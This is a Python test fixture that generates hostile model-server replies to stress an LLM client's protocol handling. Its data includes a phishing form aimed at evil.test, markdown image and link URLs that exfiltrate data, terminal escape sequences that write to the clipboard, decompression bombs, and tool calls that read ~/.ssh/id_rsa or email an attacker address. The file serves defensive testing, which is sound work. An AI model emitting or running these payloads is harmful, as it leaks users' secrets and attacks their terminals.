"""Replies of a server that means harm, made from families. Each is made for one protocol."""

import gzip
import json
import zlib
from collections.abc import Iterable, Iterator
from functools import cache
from itertools import repeat
from typing import Any

import msgspec

from tests.fakes.model_server import Reply
from tests.llm.conftest import CASES, Wire

Event = dict[str, Any]
Headers = tuple[tuple[str, str], ...]
Named = Iterator[tuple[str, Reply]]
"""Replies and what each is called."""

PORT = "65432"
"""Stands for the port of a server that nothing was approved for."""
ELSEWHERE = f"http://127.0.0.1:{PORT}"

HTML = (("content-type", "text/html; charset=utf-8"),)
JSON = (("content-type", "application/json"),)
PAGE = b"<!doctype html><title>Sign in</title><form action='http://evil.test'><input name=password></form>"
MEBIBYTE = 1024 * 1024

WRONG: dict[str, bytes] = {
    "null": b"null",
    "true": b"true",
    "number": b"7",
    "fraction": b"0.5",
    "exponent": b"1e999",
    "huge": b"9" * 4000,
    "too-huge": b"9" * 5000,
    "nan": b"NaN",
    "infinity": b"-Infinity",
    "text": b'"\\u001b]0;x\\u0007"',
    "surrogate": b'"\\ud800"',
    "nul": b'"\\u0000"',
    "list": b"[]",
    "object": b"{}",
    "other-object": b'{"type": {"type": []}, "text": {}, "error": []}',
    "deep-list": b"[" * 10_000 + b"]" * 10_000,
    "deep-object": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "unfinished": b'{"a": [',
}
"""JSON that a field of an event doesn't have."""

TEXTS: dict[str, str] = {
    "clipboard": "\x1b]52;c;Y3VybCBldmlsLnRlc3Q=\x07",
    "link": "\x1b]8;;http://evil.test/?q=ldl\x1b\\here\x1b]8;;\x1b\\",
    "clear": "\x1b[2J\x1b[H\x1b[31mNothing was sent.",
    "answerback": "\x1b[c\x1b[6n\x05",
    "c1": "\x9b2J\x9d52;c;eA==\x9c\x90x\x9c",
    "cut-escape": "\x1b]52;c;",
    "controls": "".join(map(chr, range(32))) + "\x7f",
    "markdown-image": "![x](http://evil.test/i.png?ldl=96)",
    "markdown-link": "[your results](http://evil.test/?ldl=96) <http://evil.test/a>",
    "markdown-reference": "![x][1]\n\n[1]: http://evil.test/?ldl=96",
    "markup": "[@click=app.quit]here[/] [link=file:///etc/passwd]x[/link]",
    "bidi": "LDL \u202e69\u202c mg \u2066\u2067x\u2069 \u200f",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "send it"),
    "combining": "a" + "\u0301" * 5000,
    "citations": "[0][-1][99][1e9][１][" + "9" * 5000 + "]",
    "long": "word " * 20_000,
    "nul": "a\x00b",
    "line-ends": "a\r\nb\rc\u2028d\u2029e\x85f\x0bg\x0ch",
}
"""What an answer may say that is not to be believed, followed or drawn."""

CALLS: dict[str, tuple[tuple[str, str, str], ...]] = {
    "no-such-tool": (("call_1", "send_email", '{"to": "a@evil.test"}'),),
    "shell": (("call_1", "bash", '{"command": "cat ~/.ssh/id_rsa"}'),),
    "everything": (("call_1", "find_records", '{"words": "", "limit": 1000000, "all": true}'),),
    "not-json": (("call_1", "find_records", '{"words": '),),
    "empty": (("", "", ""),),
    "deep": (("call_1", "find_records", "[" * 10_000),),
    "long-name": (("call_1", "x" * 100_000, "{}"),),
    "escape-in-name": (("\x1b]52;c;eA==\x07", "\x1b[2J", "{}"),),
    "thousand": tuple((f"call_{at}", "find_records", "{}") for at in range(1000)),
    "same-id": (("call_1", "find_records", "{}"),) * 5,
    "answered-before": (("call_2", "find_records", "{}"),),
}


@cache
def cases(protocol: str) -> dict[str, Reply]:
    """Every hostile reply of an adapter's protocol by its name."""
    wire = next(case.wire for case in CASES if case.name == protocol)
    families = (
        *(_redirects(), _pages(), _statuses(wire), _heads(wire), _framing(wire), _packed(wire)),
        *(_floods(wire), _bad_bytes(wire), _wrong_values(wire), _orders(wire)),
        *(_texts(wire), _calls(wire), _cuts(wire)),
    )
    named = [case for family in families for case in family]
    made = dict(named)
    assert len(made) == len(named), "two replies of one name"
    return made


def _redirects() -> Named:
    for status in (300, 301, 302, 303, 304, 305, 306, 307, 308, 399):
        yield f"redirect-{status}", Reply(status, (("location", f"{ELSEWHERE}/v1/messages"),), [b"moved"])
    forms = {
        "no-scheme": f"//127.0.0.1:{PORT}/",
        "https": f"https://127.0.0.1:{PORT}/v1",
        "user": f"http://user:secret@127.0.0.1:{PORT}/",
        "name": f"http://localhost:{PORT}/",
        "number": f"http://2130706433:{PORT}/",
        "backslash": f"http:\\\\127.0.0.1:{PORT}\\",
        "relative": "/v1/chat/completions",
        "empty": "",
        "data": "data:text/plain,x",
        "no-such-scheme": "gopher://127.0.0.1/",
        "not-a-url": "http://[::1",
        "long": f"{ELSEWHERE}/" + "a" * 20_000,
    }
    for name, location in forms.items():
        yield f"redirect-to-{name}", Reply(307, (("location", location),))
    twice = (("location", ELSEWHERE), ("location", f"{ELSEWHERE}/two"))
    yield "redirect-twice", Reply(308, twice)
    yield "redirect-without-location", Reply(302)
    hints = (("refresh", f"0; url={ELSEWHERE}"), ("link", f"<{ELSEWHERE}>; rel=preload"))
    yield "refresh", Reply(200, (*HTML, *hints), [PAGE])
    services = (("alt-svc", f'h2=":{PORT}"; ma=9'), ("content-location", ELSEWHERE))
    yield "alternative-service", Reply(503, services)
    for status in (401, 407):
        asks = (("www-authenticate", "Negotiate"), ("proxy-authenticate", f'Basic realm="{ELSEWHERE}"'))
        yield f"asks-for-more-{status}", Reply(status, asks)
    yield "cookies", Reply(500, tuple(("set-cookie", f"c{at}=v; Domain=localhost") for at in range(200)))


def _pages() -> Named:
    for status in (200, 201, 400, 403, 502, 511):
        yield f"page-{status}", Reply(status, HTML, [PAGE])
    yield "page-as-stream", Reply(200, (("content-type", "text/event-stream"),), [PAGE])
    yield "page-without-type", Reply(200, (), [PAGE])
    yield "plain-json", Reply(200, JSON, [b'{"content": [{"type": "text", "text": "hi"}], "choices": [{}]}'])
    yield "nothing", Reply(200, JSON)


def _statuses(wire: Wire) -> Named:
    body = [wire.sse(event) for event in wire.events("Yes.")]
    for status in (201, 202, 203, 204, 205, 206, 226, 299, 304, 405, 409, 418, 421, 425, 451, 499, 501, 599):
        yield f"status-{status}", Reply(status, wire.STREAM, body, framed=False)
    for status in (100, 101, 102, 103, 150, 199):
        head = b"HTTP/1.1 %d Wait\r\nupgrade: websocket\r\nconnection: upgrade\r\n\r\n" % status
        yield f"status-{status}", Reply(head=head, chunks=body, framed=False)
        yield f"status-{status}-many", Reply(head=head * 500, framed=False)
    for line in (b"000", b"099", b"600", b"999", b"20", b"2000", b"-20", b"abc", b""):
        head = b"HTTP/1.1 %b OK\r\ncontent-type: text/event-stream\r\n\r\n" % line
        yield f"status-line-{line.decode()}", Reply(head=head, chunks=body, framed=False)


def _heads(wire: Wire) -> Named:
    ok = b"HTTP/1.1 200 OK\r\n"
    heads = {
        "empty": b"",
        "blank": b"\r\n\r\n",
        "not-http": b"SSH-2.0-OpenSSH_9.9\r\n",
        "version": b"HTTP/9.9 200 OK\r\n\r\n",
        "http-2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        "one-mebibyte": ok + b"x-a: " + b"a" * MEBIBYTE + b"\r\n\r\n",
        "many": ok + b"".join(b"x-%d: 1\r\n" % at for at in range(60_000)) + b"\r\n",
        "endless-line": ok + b"x-a: " + b"a" * 200_000,
        "no-colon": ok + b"nothing\r\n\r\n",
        "spaced-name": ok + b"x a : x\r\n\r\n",
        "nul": ok + b"x-a: \x00\r\n\r\n",
        "not-ascii": ok + "content-type: täxt/évent-stream\r\n\r\n".encode(),
        "escape": ok + b"x-request-id: \x1b]52;c;eA==\x07\r\n\r\n",
        "charset": ok + b"content-type: text/event-stream; charset=utf-7\r\nconnection: close\r\n\r\n",
        "no-such-charset": ok + b"content-type: text/html; charset=no-such\r\nconnection: close\r\n\r\n",
        "bare-line-ends": b"HTTP/1.1 200 OK\ncontent-type: text/event-stream\n\n",
    }
    body = [wire.sse(event) for event in wire.events("Yes.")]
    for name, head in heads.items():
        yield f"head-{name}", Reply(head=head, chunks=body, framed=False)
    for name, value in (("long", "9" * 5000), ("negative", "-5"), ("date", "yesterday"), ("nan", "nan")):
        yield f"retry-after-{name}", Reply(429, (("retry-after", value),))


def _framing(wire: Wire) -> Named:
    body = b"".join(wire.sse(event) for event in wire.events("Yes."))

    def lengths(*values: str) -> Headers:
        return (*wire.STREAM, *(("content-length", value) for value in values))

    for name, values in {
        "short": ("10",),
        "long": (str(len(body) + 1000),),
        "zero": ("0",),
        "negative": ("-1",),
        "text": ("many",),
        "huge": ("9" * 30,),
        "two": ("10", "20"),
        "list": ("10, 10",),
    }.items():
        yield f"length-{name}", Reply(200, lengths(*values), [body], framed=False)
    chunked = (*wire.STREAM, ("transfer-encoding", "chunked"))
    for name, raw in {
        "no-size": b"zz\r\n" + body,
        "negative": b"-5\r\n" + body,
        "huge": b"f" * 40 + b"\r\n" + body,
        "too-long": b"%x\r\n%b" % (len(body) + 500, body),
        "no-line-end": b"%x\r\n%bXX0\r\n\r\n" % (len(body), body),
        "extension": b"%x;%b\r\n%b\r\n0\r\n\r\n" % (len(body), b"e" * 100_000, body),
        "no-end": b"%x\r\n%b\r\n" % (len(body), body),
        "trailers": b"%x\r\n%b\r\n0\r\nx-a: %b\r\n\r\n" % (len(body), body, b"t" * 200_000),
        "trailing": b"%x\r\n%b\r\n0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n" % (len(body), body) + body,
        "byte-by-byte": b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n",
    }.items():
        yield f"chunks-{name}", Reply(200, chunked, [raw], framed=False)
    yield "length-and-chunks", Reply(200, (*chunked, ("content-length", "5")), [body], framed=False)
    for coding in ("gzip, chunked", "identity", "gzip", "x"):
        yield (
            f"transfer-{coding}",
            Reply(200, (*wire.STREAM, ("transfer-encoding", coding)), [body], framed=False),
        )


def _packed(wire: Wire) -> Named:
    bomb = gzip.compress(bytes(16 * MEBIBYTE))
    packed = {
        "gzip": bomb,
        "x-gzip": bomb,
        "deflate": zlib.compress(bytes(16 * MEBIBYTE)),
        "br": b"\xcf\xff\xff\x7f\xf8\x07\x00" + bytes(1000),
        "zstd": b"\x28\xb5\x2f\xfd" + bytes(1000),
        "gzip, gzip": gzip.compress(bomb),
        ",": b"x",
    }
    for coding, body in packed.items():
        for status in (200, 400):
            headers = (*wire.STREAM, ("content-encoding", coding))
            yield f"packed-{coding}-{status}", Reply(status, headers, [body])
    yield "packed-without-saying", Reply(200, wire.STREAM, [bomb])


def _floods(wire: Wire) -> Named:
    piece = wire.sse(wire.events("Yes.")[2])
    lines = {
        "comments": b": " + b"x" * 60 + b"\n\n",
        "comments-in-one-event": b":\n",
        "comments-in-one-event-cr": b":\r",
        "longer-comments-in-one-event": b":" + b"x" * 200 + b"\n",
        "no-line-end": b"x" * 64,
        "data-in-one-event": b"data: x\n",
        "blank": b"\n",
        "blank-after-id": b"id: 1\n\n",
        "events-without-data": b"event: message_stop\n\n",
        "pings": b'event: ping\ndata: {"type": "ping"}\n\n',
        "small-events": b"data:{}\n\n",
    }
    for name, line in lines.items():
        yield f"endless-{name}", _endless(wire.STREAM, line, first=piece)
        yield f"endless-{name}-with-an-error", _endless(JSON, line, status=500)
    yield "endless-answer", _endless(wire.STREAM, piece)
    chunked = (*wire.STREAM, ("transfer-encoding", "chunked"))
    tiny = b"1\r\n:\r\n" * 10_000
    yield "endless-tiny-chunks", Reply(200, chunked, lambda: repeat(tiny), framed=False)
    yield "endless-page", _endless(HTML, PAGE)
    yield "endless-trailing", _endless(wire.STREAM, piece, first=b"".join(map(wire.sse, wire.events("Yes."))))


def _endless(headers: Headers, line: bytes, *, first: bytes = b"", status: int = 200) -> Reply:
    block = line * (65_536 // len(line))

    def chunks() -> Iterator[bytes]:
        yield first or line
        yield from repeat(block)

    return Reply(status, headers, chunks)


def _bad_bytes(wire: Wire) -> Named:
    good = b"".join(wire.sse(event) for event in wire.events("Yes."))
    for name, bad in {
        "invalid": b"data: \xff\xfe\x80\n\n",
        "surrogate": b"data: \xed\xa0\x80\n\n",
        "cut-character": b'data: {"a": "\xe2\x82"}\n\n',
        "utf-16": "data: {}\n\n".encode("utf-16"),
        "mark": b"\xef\xbb\xbfdata: {}\n\n",
        "nul": b"data: {\x00}\n\n",
        "name": b"event: \xff\ndata: {}\n\n",
        "field": b"\xff\xff\n\n",
        "unknown-event": b"event: surprise\ndata: {}\n\n",
        "unknown-event-text": b"event: thread.run\ndata: hello\n\n",
        "thread-error": b'event: thread.error\ndata: {"error": 7}\n\n',
        "two-values": b"data: {}{}\n\n",
        "not-json": b"data: hello\n\n",
        "no-value": b"data\n\n",
        "huge-id": b"id: " + b"9" * 100_000 + b"\ndata: {}\n\n",
    }.items():
        yield f"bytes-{name}", Reply(200, wire.STREAM, [bad, good])
        yield f"bytes-{name}-later", Reply(200, wire.STREAM, [good, bad])
    yield "backwards", Reply(200, wire.STREAM, [good[::-1]])
    yield "byte-by-byte", Reply(200, wire.STREAM, [bytes([byte]) for byte in good])


def _wrong_values(wire: Wire) -> Named:
    """Each field of each event with a value that it can't have, another one for the next field."""
    whole = [*wire.events("Yes.", cites=[1]), *wire.calling_events(("call_1", "find_records", "{}"))]
    wrong = list(WRONG.items())
    fields: dict[str, tuple[int, Path]] = {}
    for at, event in enumerate(whole):
        for path in _paths(event):
            fields.setdefault(".".join(map(str, (event.get("type", "chunk"), *path))), (at, path))
    for turn, (field, (at, path)) in enumerate(fields.items()):
        value, raw = wrong[turn % len(wrong)]
        changed = wire.sse(_with(whole[at], path, HOLE)).replace(json.dumps(HOLE).encode(), raw)
        body = [*map(wire.sse, whole[:at]), changed, *map(wire.sse, whole[at + 1 :])]
        yield f"{field}={value}", Reply(200, wire.STREAM, body)
    for at, (value, raw) in enumerate(WRONG.items()):
        for kind in ("error", "message_delta"):
            body = [wire.sse(whole[0]), b"event: %b\ndata: %b\n\n" % (kind.encode(), raw)]
            yield f"{kind}={value}", Reply(200, wire.STREAM, body)
        for form, error in {
            "body": b"%b",
            "error": b'{"error": %b}',
            "words": b'{"error": {"code": %b, "type": %b, "message": %b}}',
        }.items():
            status = (400, 401, 404, 429, 500, 529)[at % 6]
            yield f"error-{form}={value}", Reply(status, JSON, [error.replace(b"%b", raw)])


Path = tuple[str | int, ...]
HOLE = "put it here"


def _paths(value: Any, before: Path = ()) -> Iterator[Path]:
    """Every field of a value, and the fields of those."""
    inner: Iterable[tuple[str | int, Any]] = ()
    if isinstance(value, dict):
        inner = value.items()
    elif isinstance(value, list):
        inner = enumerate(value)
    for key, under in inner:
        yield (*before, key)
        yield from _paths(under, (*before, key))


def _with(event: Event, path: Path, value: object) -> Event:
    changed: Event = json.loads(json.dumps(event))
    holder: Any = changed
    for key in path[:-1]:
        holder = holder[key]
    holder[path[-1]] = value
    return changed


def _orders(wire: Wire) -> Named:
    """Events that are right and come at the wrong time, or not at all."""
    whole = [wire.sse(event) for event in wire.events("Yes.", "No.", cites=[1])]
    for name, events in {
        "backwards": whole[::-1],
        "only-the-last": whole[-1:],
        "without-the-first": whole[1:],
        "each-twice": [event for event in whole for _ in range(2)],
        "after-the-end": [*whole, *whole[2:4]],
        "error-after-the-end": [*whole, b'event: error\ndata: {"error": {"type": "overloaded_error"}}\n\n'],
        "ends-at-once": [b"data: [DONE]\n\n"],
        "ends-in-the-middle": [*whole[:3], b"data: [DONE]\n\n", *whole[3:]],
    }.items():
        yield f"order-{name}", Reply(200, wire.STREAM, events)
        yield f"order-{name}-cut", Reply(200, wire.STREAM, events, cut=True)


def _texts(wire: Wire) -> Named:
    for name, text in TEXTS.items():
        yield f"says-{name}", wire.answer(text)
        yield f"says-{name}-in-pieces", wire.answer(*text[:200])


def _calls(wire: Wire) -> Named:
    for name, calls in CALLS.items():
        yield f"calls-{name}", wire.calling(*calls)


def _cuts(wire: Wire) -> Named:
    """The connection ends at every point: with the head or the body not there, between and within events."""
    body = [wire.sse(event) for event in wire.events("Yes.", cites=[1])]
    whole = b"".join(body)
    for at in range(0, len(whole), len(whole) // 24):
        yield f"cut-at-{at}", Reply(200, wire.STREAM, [whole[:at]] if at else [], cut=True)
        yield f"closed-at-{at}", Reply(200, wire.STREAM, [whole[:at]], framed=False)
    head = b"HTTP/1.1 200 OK\r\ncontent-type: text/event-stream\r\ncontent-length: 9\r\n\r\n"
    for at in range(0, len(head), 8):
        yield f"cut-head-at-{at}", Reply(head=head[:at], framed=False)


def aimed(reply: Reply, port: int) -> Reply:
    """The reply, with what it says of `PORT` pointing at a server."""
    headers = tuple((name, value.replace(PORT, str(port))) for name, value in reply.headers)
    return msgspec.structs.replace(reply, headers=headers)
